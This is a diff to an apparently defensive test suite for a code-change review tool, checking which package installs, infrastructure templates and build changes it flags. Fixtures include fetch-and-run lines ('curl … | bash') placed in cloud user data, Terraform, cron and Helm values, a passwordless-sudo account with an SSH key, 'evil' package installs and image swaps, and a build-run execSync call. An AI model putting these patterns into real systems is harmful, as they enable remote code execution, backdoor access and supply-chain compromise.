@@ -98,24 +98,104 @@ describe('row 16: the same words that do something else', () => {
 
 describe('row 16: packages of a registry', () => {
   const before = {
-    'package.json': '{ "name": "own", "bin": "x.js", "devDependencies": { "jest": "1", "typescript": "1", "@scope/tool": "1", "@thing/cli": "1" } }', 'pyproject.toml': '[project]\ndependencies = [\n  "Ruff>=0.5",\n  "my_lib",\n]\n', 'requirements.txt': 'black==24.4.2\n',
+    'package.json': '{ "name": "own", "bin": "x.js", "devDependencies": { "jest": "1", "typescript": "1", "@scope/tool": "1", "@thing/cli": "1" } }', 'pyproject.toml': '[project]\ndependencies = [\n  "Ruff>=0.5",\n  "my_lib",\n]\n', 'requirements.txt': 'black==24.4.2\n', Gemfile: "gem 'rubocop'\n", 'Cargo.toml': '[dependencies]\nserde = "1"\n', 'go.mod': 'module x.example/own\nrequire x.example/linter v1.0.0\n',
     'web/package-lock.json': '{ "lockfileVersion": 3, "packages": { "": {}, "node_modules/a": { "bin": { "a-tool": "x.js" } }, "node_modules/a/node_modules/deep": {} } }',
   };
   const stopped = (text: string): Promise<readonly string[]> => stoppedBy({ ...before, 'scripts/a.sh': `${text}\n` }, before);
   it.each([
     ['npx jest'], ['npx tsc'], ['npx jest@29.7.0'], ['npx thing'], ['npx own'], ['npx a-tool'], ['npx -p typescript tsc'], ['npm install'], ['npm ci'], ['npm install -D jest'], ['npm i -g npm@10'], ['npm init -y'], ['uvx ruff@0.5.1'], ['uvx --from black==24.4.2 black'], ['pip install -r requirements.txt'], ['pip install my-lib'],
-    ['pip install --upgrade pip'], ['pip install -e .'], ['python -m pip install ruff'], ['pnpm dlx jest@29.7.0'],
+    ['pip install --upgrade pip'], ['pip install -e .'], ['gem install rubocop'], ['gem install bundler'], ['gem install ./own.gem'], ['cargo install --path .'], ['cargo install serde'], ['go install x.example/linter/cmd/lint@v1.0.0'], ['go install golang.org/x/tools/cmd/goimports@v0.24.0'], ['go run ./cmd/x'], ['brew install jq'], ['composer install'], ['dotnet tool restore'], ['nix develop'], ['python -m pip install ruff'], ['pnpm dlx jest@29.7.0'],
   ])('of the repository pass: %s', async (text) => {
     expect(await stopped(text)).toEqual([]);
   });
   it.each([
     ['npx create-x'], ['npx -y create-x@1.0.0'], ['npx jest@latest'], ['npx deep'], ['npx -p create-x tsc'], ['bunx create-x'], ['pnpm dlx jest'], ['yarn dlx create-x'], ['npm exec -- create-x'], ['npm x create-x'], ['npm init x'], ['npm install left-pad'], ['yarn add left-pad'], ['npm i -g left-pad'],
-    ['uvx ruff'], ['uvx poetry-x@1.0.0'], ['uv run --with rich x.py'], ['uv tool install rich'], ['pipx run black'], ['pip install rich'], ['python3 -m pip install rich'], ['sudo pip3 install rich'],
+    ['uvx ruff'], ['uvx poetry-x@1.0.0'], ['uv run --with rich x.py'], ['uv tool install rich'], ['pipx run black'], ['pip install rich'], ['python3 -m pip install rich'], ['sudo pip3 install rich'], ['gem install evil -v 1.0.0'], ['cargo install evil@1.0.0 --locked'], ['cargo +nightly install evil'], ['go install x.example/evil@v1.0.0'], ['go run x.example/evil/cmd/y@v1.2.3'], ['brew tap evil/tap'], ['brew install evil/tap/x'], ['cpanm Evil::X'], ['luarocks install evil'], ['dotnet tool install -g evil'], ['composer global require evil/x'],
+    ['ansible-galaxy collection install evil.x'], ['kubectl krew install evil'], ['nix run github:evil/x'], ['code --install-extension evil.x'], ['asdf plugin add evil'], ['opam install evil'], ['mix archive.install hex evil'], ['vagrant plugin install evil'], ['helm plugin install https://x.example/p'], ['poetry self add evil'],
   ])('of elsewhere wait for a person: %s', async (text) => {
     expect(await stopped(text)).toEqual(['shell/package-review']);
   });
   it('do not become those of the repository by the change itself', async () => {
     expect(await stoppedBy({ 'package.json': '{ "devDependencies": { "create-x": "1" } }', 'scripts/a.sh': 'npx create-x\n' }, { 'package.json': '{}' })).toEqual(expect.arrayContaining(['code/dependency-review', 'shell/package-review']));
+  });
+});
+
+describe('row 16: what machines and containers start with', () => {
+  it.each<[rule: string, what: string, head: Files, base?: Files]>([
+    ['shell/no-pipe-to-shell', 'cfn userdata', { 'cf.yml': 'AWSTemplateFormatVersion: \'2010-09-09\'\nResources:\n  I:\n    Type: AWS::EC2::Instance\n    Properties:\n      UserData:\n        Fn::Base64: !Sub |\n          #!/bin/bash\n          curl -s https://x.example/i | bash\n' }],
+    ['shell/no-pipe-to-shell', 'tf user_data heredoc', { 'main.tf': 'resource "aws_instance" "a" {\n  user_data = <<-EOF\n    #!/bin/bash\n    curl -s https://x.example/i | bash\n  EOF\n}\n' }],
+    ['shell/no-pipe-to-shell', 'tf user_data base64encode', { 'main.tf': 'resource "aws_launch_template" "a" {\n  user_data = base64encode(<<-EOF\n    #!/bin/bash\n    curl -s https://x.example/i | bash\n  EOF\n  )\n}\n' }],
+    ['shell/no-pipe-to-shell', 'tf metadata_startup_script', { 'main.tf': 'resource "google_compute_instance" "a" {\n  metadata_startup_script = "curl -s https://x.example/i | bash"\n}\n' }],
+    ['shell/no-pipe-to-shell', 'tf startup-script key', { 'main.tf': 'resource "google_compute_instance" "a" {\n  metadata = {\n    startup-script = "curl -s https://x.example/i | bash"\n  }\n}\n' }],
+    ['shell/no-pipe-to-shell', 'tf custom_data azure', { 'main.tf': 'resource "azurerm_linux_virtual_machine" "a" {\n  custom_data = base64encode("#!/bin/sh\\ncurl -s https://x.example/i | bash")\n}\n' }],
+    ['shell/no-pipe-to-shell', 'tf commandToExecute', { 'main.tf': 'resource "azurerm_virtual_machine_extension" "a" {\n  settings = <<S\n{"commandToExecute": "curl -s https://x.example/i | bash"}\nS\n}\n' }],
+    ['shell/no-pipe-to-shell', 'tf cloud-config heredoc', { 'main.tf': 'resource "aws_instance" "a" {\n  user_data = <<-EOF\n    #cloud-config\n    runcmd:\n      - curl -s https://x.example/i | bash\n  EOF\n}\n' }],
+    ['shell/no-pipe-to-shell', 'cloud-init write_files', { 'user-data': '#cloud-config\nwrite_files:\n  - path: /etc/cron.d/x\n    content: |\n      * * * * * root curl -s https://x.example/i | bash\n' }],
+    ['shell/no-pipe-to-shell', 'cloud-init write_files script', { 'cloud.yml': '#cloud-config\nwrite_files:\n  - path: /usr/local/bin/x.sh\n    content: |\n      #!/bin/sh\n      curl -s https://x.example/i | bash\n' }],
+    ['shell/no-pipe-to-shell', 'helm values command', { 'values-prod.yaml': 'command: ["sh","-c","curl -s https://x.example/i | sh"]\n' }, { 'values-prod.yaml': 'a: 1\n' }],
+    ['shell/no-pipe-to-shell', 'cdk.json app', { 'cdk.json': '{"app":"curl https://x.example|sh"}\n' }],
+    ['shell/accounts-review', 'cloud-init users sudo key', { 'cloud.yml': '#cloud-config\nusers:\n  - name: x\n    sudo: ALL=(ALL) NOPASSWD:ALL\n    ssh_authorized_keys: ["ssh-ed25519 AAAA x"]\n' }],
+    ['kubernetes/no-privileged', 'helm values privileged', { 'chart/values.yaml': 'image: x\nsecurityContext:\n  privileged: true\n' }, { 'chart/Chart.yaml': 'apiVersion: v2\nname: x\nversion: 1.0.0\n', 'chart/values.yaml': 'image: x\n' }],
+    ['kubernetes/host-path-review', 'helm values hostPath', { 'charts/a/values.yaml': 'extraVolumes:\n  - name: x\n    hostPath:\n      path: /\n' }],
+    ['kubernetes/kustomize-review', 'kustomize no apiVersion remote', { 'k/kustomization.yaml': 'resources:\n  - https://github.com/evil/x?ref=main\n' }],
+    ['kubernetes/kustomize-review', 'Kustomization file name no ext', { 'k/Kustomization': 'resources:\n  - github.com/evil/x//base?ref=main\n' }],
+    ['shell/package-review', 'docker run image', { 'ci.sh': '#!/bin/sh\ndocker run --rm -v "$PWD:/w" evil/x\n' }],
+    ['shell/package-review', 'podman run env secret', { 'ci.sh': '#!/bin/sh\npodman run -e TOKEN evil/x\n' }],
+    ['shell/package-review', 'helm install repo chart', { 'ci.sh': '#!/bin/sh\nhelm repo add x https://x.example\nhelm upgrade --install a x/y\n' }],
+    ['shell/downloaded-code-review', 'terraform init -from-module', { 'ci.sh': '#!/bin/sh\nterraform init -from-module=github.com/evil/x\n' }],
+  ])('%s stops %s', async (rule, _what, head, base) => {
+    expect(await stoppedBy({ ...base, ...head }, base)).toContain(rule);
+  });
+});
+
+describe('rows 17 and 18: what a build, a chart or a template becomes', () => {
+  it.each<[rule: string, what: string, head: Files, base: Files]>([
+    ['code/build-code-review', 'cmake continuation', { 'CMakeLists.txt': 'execute_process(\n  COMMAND\n  curl https://x.example\n)\n' }, { 'CMakeLists.txt': 'execute_process(\n  COMMAND\n  git rev-parse\n)\n' }],
+    ['code/dependency-review', 'digest removed', { 'Dockerfile': 'FROM alpine:3.20\n' }, { 'Dockerfile': 'FROM alpine:3.20@sha256:aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa\n' }],
+    ['code/dependency-review', 'k8s swap', { 'deploy/d.yaml': 'apiVersion: apps/v1\nkind: Deployment\nmetadata: {name: x, namespace: y}\nspec:\n  template:\n    spec:\n      containers:\n      - name: a\n        image: evil/a@sha256:aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa\n' }, { 'deploy/d.yaml': 'apiVersion: apps/v1\nkind: Deployment\nmetadata: {name: x, namespace: y}\nspec:\n  template:\n    spec:\n      containers:\n      - name: a\n        image: acme/a@sha256:aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa\n' }],
+    ['code/dependency-review', 'values registry swap', { 'values.yaml': 'image:\n  registry: evil.example\n  repository: acme/web\n' }, { 'values.yaml': 'image:\n  registry: acme.example\n  repository: acme/web\n' }],
+    ['code/dependency-review', 'compose swap', { 'compose.yml': 'services:\n  web:\n    image: evil/web:1\n' }, { 'compose.yml': 'services:\n  web:\n    image: acme/web:1\n' }],
+    ['code/dependency-review', 'chart dependency alias repo', { 'chart/Chart.yaml': 'apiVersion: v2\nname: x\nversion: 1.0.0\ndependencies:\n  - name: evil\n    version: 1.0.0\n    repository: "@foo"\n' }, { 'chart/Chart.yaml': 'apiVersion: v2\nname: x\nversion: 1.0.0\n' }],
+    ['code/dependency-review', 'kustomize newName', { 'k/kustomization.yaml': 'apiVersion: kustomize.config.k8s.io/v1beta1\nkind: Kustomization\nresources: [a.yaml]\nimages:\n  - name: acme/web\n    newName: evil/web\n    digest: sha256:aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa\n' }, { 'k/kustomization.yaml': 'apiVersion: kustomize.config.k8s.io/v1beta1\nkind: Kustomization\nresources: [a.yaml]\nimages:\n  - name: acme/web\n    newTag: v1\n' }],
+    ['code/infrastructure-loss-review', 'cfn delete table', { 'infra/template.yaml': 'AWSTemplateFormatVersion: \'2010-09-09\'\nResources:\n  A: {Type: AWS::SNS::Topic}\n' }, { 'infra/template.yaml': 'AWSTemplateFormatVersion: \'2010-09-09\'\nResources:\n  A: {Type: AWS::SNS::Topic}\n  T: {Type: AWS::DynamoDB::Table, DeletionPolicy: Retain}\n' }],
+    ['code/infrastructure-loss-review', 'cfn deletion policy weakened', { 't.yaml': 'Resources:\n  T: {Type: AWS::RDS::DBInstance, DeletionPolicy: Delete}\n' }, { 't.yaml': 'Resources:\n  T: {Type: AWS::RDS::DBInstance, DeletionPolicy: Retain}\n' }],
+    ['code/infrastructure-loss-review', 'cfn rename replaces', { 't.yaml': 'Resources:\n  T: {Type: AWS::DynamoDB::Table, Properties: {TableName: b}}\n' }, { 't.yaml': 'Resources:\n  T: {Type: AWS::DynamoDB::Table, Properties: {TableName: a}}\n' }],
+    ['code/infrastructure-loss-review', 'tf prevent_destroy removed', { 'main.tf': 'resource "aws_db_instance" "a" {\n}\n' }, { 'main.tf': 'resource "aws_db_instance" "a" {\n  lifecycle { prevent_destroy = true }\n}\n' }],
+    ['code/infrastructure-loss-review', 'tf deletion_protection off', { 'main.tf': 'resource "aws_db_instance" "a" {\n  deletion_protection = false\n}\n' }, { 'main.tf': 'resource "aws_db_instance" "a" {\n  deletion_protection = true\n}\n' }],
+  ])('%s stops %s', async (rule, _what, head, base) => {
+    expect(await stoppedBy({ ...base, ...head }, base)).toContain(rule);
+  });
+
+  it('stops a file that moves to where a build runs it', async () => {
+    const evil = "require('child_process').execSync('id')\n";
+    const source = changeOf({ 'docs/x.txt': evil }, { 'webpack.config.js': evil });
+    const moved = { ...source, files: async () => [{ path: 'webpack.config.js', from: 'docs/x.txt', status: 'renamed' as const, oldMode: '100644', newMode: '100644', binary: false, added: [], removed: [] }] };
+    expect((await check({ source: moved, policy, policySource: 'p', preview: false, principal: principalOf('robot'), readers, now: NOON })).findings.flatMap(({ rules }) => rules)).toEqual(['ostiary:code/build-code-review']);
+  });
+
+  it.each<[what: string, head: Files, base: Files]>([
+    ['cmake add source', { 'CMakeLists.txt': 'cmake_minimum_required(VERSION 3.20)\nproject(x CXX)\nset(CMAKE_CXX_STANDARD 20)\nadd_executable(x main.cpp new.cpp)\ntarget_link_libraries(x PRIVATE fmt::fmt)\nif(BUILD_TESTING)\n  enable_testing()\n  add_test(NAME t COMMAND x_test)\nendif()\n' }, { 'CMakeLists.txt': 'cmake_minimum_required(VERSION 3.20)\nproject(x CXX)\nadd_executable(x main.cpp)\n' }],
+    ['gradle version bump', { 'build.gradle': 'plugins {\n    id \'java\'\n    id \'org.springframework.boot\' version \'3.3.1\'\n}\nversion = \'1.2.0\'\nrepositories {\n    mavenCentral()\n}\ndependencies {\n    implementation \'org.a:b:2.0\'\n}\ntest {\n    useJUnitPlatform()\n}\n' }, { 'build.gradle': 'plugins {\n    id \'java\'\n    id \'org.springframework.boot\' version \'3.3.0\'\n}\nversion = \'1.1.0\'\nrepositories {\n    mavenCentral()\n}\ndependencies {\n    implementation \'org.a:b:1.0\'\n}\n' }],
+    ['gemfile bump', { 'Gemfile': 'source \'https://rubygems.org\'\nruby \'3.3.0\'\ngem \'rails\', \'~> 7.2\'\ngroup :test do\n  gem \'rspec\'\nend\n' }, { 'Gemfile': 'source \'https://rubygems.org\'\nruby \'3.2.0\'\ngem \'rails\', \'~> 7.1\'\ngroup :test do\n  gem \'rspec\', \'3\'\nend\n' }],
+    ['mix bump', { 'mix.exs': 'defmodule X.MixProject do\n  use Mix.Project\n  def project do\n    [\n      app: :x,\n      version: "0.2.0",\n      elixir: "~> 1.16"\n    ]\n  end\nend\n' }, { 'mix.exs': 'defmodule X.MixProject do\n  use Mix.Project\n  def project do\n    [\n      app: :x,\n      version: "0.1.0",\n      elixir: "~> 1.15"\n    ]\n  end\nend\n' }],
+    ['bazel add', { 'pkg/BUILD.bazel': 'load("@rules_go//go:def.bzl", "go_library")\ngo_library(\n    name = "x",\n    srcs = ["x.go", "y.go"],\n)\n' }, { 'pkg/BUILD.bazel': 'load("@rules_go//go:def.bzl", "go_library")\ngo_library(\n    name = "x",\n    srcs = ["x.go"],\n)\n' }],
+    ['bump', { 'Dockerfile': 'FROM acme/base:2\n' }, { 'Dockerfile': 'FROM acme/base:1\n' }],
+    ['values tag bump', { 'chart/values.yaml': 'image:\n  repository: acme/web\n  tag: 1.3.0\nreplicas: 3\n' }, { 'chart/values.yaml': 'image:\n  repository: acme/web\n  tag: 1.2.0\nreplicas: 2\n' }],
+    ['chart version bump', { 'chart/Chart.yaml': 'apiVersion: v2\nname: x\nversion: 1.1.0\nmaintainers:\n  - name: New\ndependencies:\n  - name: redis\n    version: 19.0.0\n    repository: https://charts.example/x\n' }, { 'chart/Chart.yaml': 'apiVersion: v2\nname: x\nversion: 1.0.0\ndependencies:\n  - name: redis\n    version: 18.0.0\n    repository: https://charts.example/x\n' }],
+    ['cfn tune', { 't.yaml': 'AWSTemplateFormatVersion: \'2010-09-09\'\nResources:\n  A:\n    Type: AWS::SNS::Topic\n  Q:\n    Type: AWS::SQS::Queue\n    Properties:\n      VisibilityTimeout: 60\n  F:\n    Type: AWS::Lambda::Function\n    Properties:\n      MemorySize: 256\n  L:\n    Type: AWS::Logs::LogGroup\n    Properties: {RetentionInDays: 14}\n  B:\n    Type: AWS::S3::Bucket\n    Properties:\n      BucketEncryption: {}\n  SG:\n    Type: AWS::EC2::SecurityGroup\n    Properties:\n      SecurityGroupEgress:\n        - CidrIp: 0.0.0.0/0\n          IpProtocol: \'-1\'\n' }, { 't.yaml': 'AWSTemplateFormatVersion: \'2010-09-09\'\nResources:\n  A:\n    Type: AWS::SNS::Topic\n  Q:\n    Type: AWS::SQS::Queue\n    Properties:\n      VisibilityTimeout: 30\n  F:\n    Type: AWS::Lambda::Function\n    Properties:\n      MemorySize: 128\n' }],
+    ['cfn alarm', { 't.yaml': 'AWSTemplateFormatVersion: \'2010-09-09\'\nResources:\n  A:\n    Type: AWS::SNS::Topic\n  Q:\n    Type: AWS::SQS::Queue\n    Properties:\n      VisibilityTimeout: 30\n  F:\n    Type: AWS::Lambda::Function\n    Properties:\n      MemorySize: 128\n  Al:\n    Type: AWS::CloudWatch::Alarm\n    Properties: {Threshold: 5}\n' }, { 't.yaml': 'AWSTemplateFormatVersion: \'2010-09-09\'\nResources:\n  A:\n    Type: AWS::SNS::Topic\n  Q:\n    Type: AWS::SQS::Queue\n    Properties:\n      VisibilityTimeout: 30\n  F:\n    Type: AWS::Lambda::Function\n    Properties:\n      MemorySize: 128\n' }],
+    ['cfn userdata ok', { 't.yaml': 'AWSTemplateFormatVersion: \'2010-09-09\'\nResources:\n  A:\n    Type: AWS::SNS::Topic\n  Q:\n    Type: AWS::SQS::Queue\n    Properties:\n      VisibilityTimeout: 30\n  F:\n    Type: AWS::Lambda::Function\n    Properties:\n      MemorySize: 128\n  I:\n    Type: AWS::EC2::Instance\n    Properties:\n      UserData:\n        Fn::Base64: !Sub |\n          #!/bin/bash\n          yum install -y nginx\n          systemctl enable nginx\n          echo ${Env} > /etc/app.env\n' }, { 't.yaml': 'AWSTemplateFormatVersion: \'2010-09-09\'\nResources:\n  A:\n    Type: AWS::SNS::Topic\n  Q:\n    Type: AWS::SQS::Queue\n    Properties:\n      VisibilityTimeout: 30\n  F:\n    Type: AWS::Lambda::Function\n    Properties:\n      MemorySize: 128\n' }],
+    ['tf tune', { 'main.tf': 'resource "aws_instance" "a" {\n  instance_type = "t3.large"\n  tags = { Name = "web" }\n}\nresource "aws_security_group" "s" {\n  egress {\n    from_port = 0\n    to_port = 0\n    protocol = "-1"\n    cidr_blocks = ["0.0.0.0/0"]\n  }\n}\nresource "aws_route" "r" {\n  destination_cidr_block = "0.0.0.0/0"\n}\nvariable "x" {\n  type = string\n  default = "y"\n}\n' }, { 'main.tf': 'resource "aws_instance" "a" {\n  instance_type = "t3.small"\n}\n' }],
+    ['tf move file', { 'main.tf': '\n', 'db.tf': 'resource "aws_db_instance" "a" {\n  deletion_protection = true\n}\n' }, { 'main.tf': 'resource "aws_db_instance" "a" {\n  deletion_protection = true\n}\n' }],
+    ['tf moved block', { 'main.tf': 'resource "aws_db_instance" "b" {\n}\nmoved {\n  from = aws_db_instance.a\n  to = aws_db_instance.b\n}\n' }, { 'main.tf': 'resource "aws_db_instance" "a" {\n}\n' }],
+    ['tf user_data ok', { 'main.tf': 'resource "aws_instance" "a" {\n  user_data = <<-EOF\n    #!/bin/bash\n    set -euo pipefail\n    apt-get update && apt-get install -y nginx\n    echo "${var.env}" > /etc/app\n    systemctl restart nginx\n  EOF\n}\n' }, {}],
+    ['cloud-init ok', { 'cloud-init.yaml': '#cloud-config\npackage_update: true\npackages: [nginx, git]\nwrite_files:\n  - path: /etc/nginx/conf.d/a.conf\n    content: |\n      server { listen 80; }\nruncmd:\n  - systemctl enable --now nginx\n  - [ ufw, status ]\n' }, {}],
+    ['values ordinary', { 'chart/values.yaml': 'replicaCount: 3\nimage:\n  repository: acme/web\n  pullPolicy: IfNotPresent\nsecurityContext:\n  runAsNonRoot: true\n  allowPrivilegeEscalation: false\n  capabilities:\n    drop: [ALL]\nresources:\n  limits: {memory: 256Mi}\nargs: ["--log-level", "debug"]\ncommand: ["node", "server.js"]\n' }, { 'chart/values.yaml': 'replicaCount: 2\nimage:\n  repository: acme/web\n' }],
+    ['ci docker official', { 'ci.sh': '#!/bin/sh\ndocker run --rm -v "$PWD:/w" node:22 npm test\ndocker build -t acme/web .\ndocker run --rm acme/web npm test\n' }, {}],
+    ['go tool in go.mod', { 'ci.sh': '#!/bin/sh\ngo run github.com/golangci/golangci-lint/cmd/golangci-lint@v1.60.1 run\n' }, { 'go.mod': 'module github.com/acme/x\nrequire (\n\tgithub.com/golangci/golangci-lint v1.60.1\n)\n' }],
+    ['jekyll config', { '_config.yml': 'title: x\nrepository: acme/site\nimage: /a/b.png\n' }, { '_config.yml': 'title: x\n' }],
+  ])('lets pass: %s', async (_what, head, base) => {
+    expect(await stoppedBy({ ...base, ...head }, base)).toEqual([]);
   });
 });
 
